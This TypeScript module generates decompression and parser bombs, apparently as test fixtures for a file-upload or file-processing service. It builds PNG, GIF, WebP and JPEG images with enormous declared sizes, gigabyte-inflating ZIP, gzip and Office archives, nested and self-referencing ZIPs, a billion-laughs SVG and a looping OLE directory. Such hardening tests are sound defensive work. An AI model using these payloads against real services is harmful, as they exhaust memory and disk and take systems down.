import { Buffer } from 'node:buffer'
import { constants, deflateRawSync, gzipSync } from 'node:zlib'
import {
  deflated,
  latin1,
  officeEntries,
  PNG_END,
  pngChunk,
  pngHeader,
  pngWith,
  riff,
  riffChunk,
  stored,
  uint32be,
  uint32le,
  zipOf,
} from './containers.ts'
import type { HostileIdea } from './hostile-file.ts'

const MB = 1_048_576

/** A megabyte of zeros as a block of deflate that others may follow. */
const ZEROS = deflateRawSync(Buffer.alloc(MB), { finishFlush: constants.Z_FULL_FLUSH })
const LAST_BLOCK = deflateRawSync(Buffer.alloc(0))

const deflatedZeros = (megabytes: number): Buffer =>
  Buffer.concat([...Array.from({ length: megabytes }, () => ZEROS), LAST_BLOCK])

/** RFC 1950. Of nothing but zeros, Adler-32 is 1 below their number. */
const zlibZeros = (megabytes: number): Buffer =>
  Buffer.concat([
    Buffer.from('7801', 'hex'),
    deflatedZeros(megabytes),
    uint32be(((megabytes * MB) % 65_521) * 65_536 + 1),
  ])

const bomb = (filename: string, what: string, content: () => string | Buffer): HostileIdea => ({
  what: `bomb: ${what}`,
  filename,
  content,
})

const PICTURES = [
  bomb('a.png', 'PNG of 50,000 × 50,000 pixels', () =>
    Buffer.concat([pngHeader(50_000, 50_000), pngChunk('IDAT', zlibZeros(2385)), PNG_END]),
  ),
  bomb('a.png', 'PNG of 2,147,483,647 pixels in a row', () =>
    Buffer.concat([pngHeader(2_147_483_647, 1), pngChunk('IDAT', zlibZeros(64)), PNG_END]),
  ),
  bomb('a.png', 'PNG that says it is large, and is not', () =>
    Buffer.concat([pngHeader(100_000, 100_000), pngChunk('IDAT', zlibZeros(1)), PNG_END]),
  ),
  bomb('a.png', 'PNG with a text that inflates to a gigabyte', () =>
    pngWith(pngChunk('zTXt', Buffer.concat([latin1('Comment\0\0'), zlibZeros(1024)]))),
  ),
  bomb('a.png', 'PNG with a profile that inflates to a gigabyte', () =>
    pngWith(pngChunk('iCCP', Buffer.concat([latin1('Profile\0\0'), zlibZeros(1024)]))),
  ),
  bomb('a.png', 'PNG with a chunk that is longer than the file', () =>
    Buffer.concat([pngHeader(1, 1), uint32be(0x7fffffff), latin1('tEXt')]),
  ),
  bomb('a.gif', 'GIF of 65,535 × 65,535 pixels', () =>
    Buffer.from('474946383961ffffffff800000000000ffffff2c00000000ffffffff0002024401003b', 'hex'),
  ),
  bomb('a.gif', 'GIF of many frames of 20,000 × 20,000 pixels', () =>
    Buffer.concat([
      Buffer.from('474946383961204e204e800000000000ffffff', 'hex'),
      ...Array.from({ length: 2000 }, () => Buffer.from('21f9040400000000002c00000000204e204e0002024401', 'hex')),
      Buffer.from('003b', 'hex'),
    ]),
  ),
  bomb('a.webp', 'WebP of 16,777,216 × 16,777,216 pixels', () =>
    riff(
      'WEBP',
      riffChunk('VP8X', Buffer.from('00000000ffffffffffff', 'hex')),
      riffChunk('VP8L', Buffer.from('2fffffff0f00', 'hex')),
    ),
  ),
  bomb('a.jpg', 'JPEG of 65,500 × 65,500 pixels', () =>
    Buffer.from('ffd8ffc0000b08ffdcffdc01011100ffda0008010100003f00d2ffd9', 'hex'),
  ),
]

const TYPES_OF_A_GIGABYTE = { name: '[Content_Types].xml', data: deflatedZeros(1024), size: 1024 * MB }

const LAUGHS = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')

const ARCHIVES = [
  bomb('a.zip', 'ZIP of four gigabytes', () => zipOf([{ name: 'a', data: deflatedZeros(4000), size: 4000 * MB }])),
  bomb('a.zip', 'ZIP in ZIP in ZIP', () => {
    let archive = zipOf([{ name: 'a', data: deflatedZeros(10), size: 10 * MB }])
    for (let depth = 0; depth < 8; depth++)
      archive = zipOf([1, 2, 3, 4].map((copy) => deflated(`${depth}-${copy}.zip`, archive)))
    return archive
  }),
  bomb('a.zip', 'ZIP that lists one entry 60,000 times', () =>
    zipOf([{ name: 'a', data: deflatedZeros(10), size: 10 * MB }], Buffer.alloc(0), 60_000),
  ),
  bomb('a.zip', 'ZIP that holds its own beginning', () => {
    const inner = zipOf([stored('a.zip', '')])
    return zipOf([stored('a.zip', Buffer.concat([inner, inner]))])
  }),
  bomb('a.zip', 'ZIP that lies about what it holds', () =>
    zipOf([{ name: 'a', data: deflatedZeros(100), size: 100 * MB, declaredSize: 1 }]),
  ),
  bomb('a.docx', 'content types of a gigabyte', () => zipOf([TYPES_OF_A_GIGABYTE])),
  bomb('a.docx', 'content types of a gigabyte that say they are a kilobyte', () =>
    zipOf([{ ...TYPES_OF_A_GIGABYTE, declaredSize: 1024 }]),
  ),
  bomb('a.xlsx', 'a sheet of a gigabyte', () =>
    zipOf([...officeEntries('.xlsx', '<x/>'), { name: 'xl/sheet.xml', data: deflatedZeros(1024), size: 1024 * MB }]),
  ),
  bomb('a.pptx', 'content types 60,000 times', () =>
    zipOf([deflated('[Content_Types].xml', Buffer.alloc(MB, 'x'))], Buffer.alloc(0), 60_000),
  ),
  bomb('a.gz', 'gzip of four gigabytes', () =>
    Buffer.concat([gzipSync('').subarray(0, 10), deflatedZeros(4000), uint32le(0), uint32le(0)]),
  ),
  bomb(
    'a.svg',
    'a billion laughs',
    () => `<!DOCTYPE svg [<!ENTITY l0 "lol">${LAUGHS}]><svg xmlns="http://www.w3.org/2000/svg"><text>&l9;</text></svg>`,
  ),
  bomb('a.svg', 'a prologue without an end', () => `<!DOCTYPE svg [${'<!--'.repeat(250_000)}`),
  bomb('a.doc', 'a directory that goes round in circles', () => {
    const file = Buffer.from('d0cf11e0a1b11ae1'.padEnd(4096, '0'), 'hex')
    file.writeUInt16LE(9, 30)
    file.writeUInt32LE(1, 48)
    file.writeUInt32LE(1, 516)
    return file
  }),
]

export const BOMB_IDEAS: readonly HostileIdea[] = [...PICTURES, ...ARCHIVES]
